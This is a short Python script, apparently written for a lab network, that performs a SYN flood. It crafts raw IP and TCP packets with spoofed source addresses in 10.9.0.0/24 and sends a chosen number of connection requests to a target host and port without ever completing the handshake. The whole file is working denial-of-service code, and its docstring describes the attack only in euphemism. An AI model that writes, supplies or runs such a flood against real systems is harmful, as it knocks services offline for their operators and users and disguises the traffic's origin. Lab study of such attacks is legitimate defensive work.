#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Ask for connections and never answer: syn.py ADDRESS PORT COUNT

The source addresses are unused addresses of the same network.
"""
import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, target, source_port, port):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!HHIIBBH", source_port, port,
                       random.getrandbits(32), 0, 5 << 4, 2, 64240)
    pseudo = ends + struct.pack("!BBH", 0, 6, 20)
    tcp = head + struct.pack("!HH", checksum(pseudo + head + b"\0\0\0\0"), 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0, 64,
                     6, 0) + ends
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main():
    target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(count):
        source = "10.9.0.%d" % random.randint(3, 254)
        raw.sendto(syn(source, target, random.randint(1024, 65535), port),
                   (target, 0))


main()
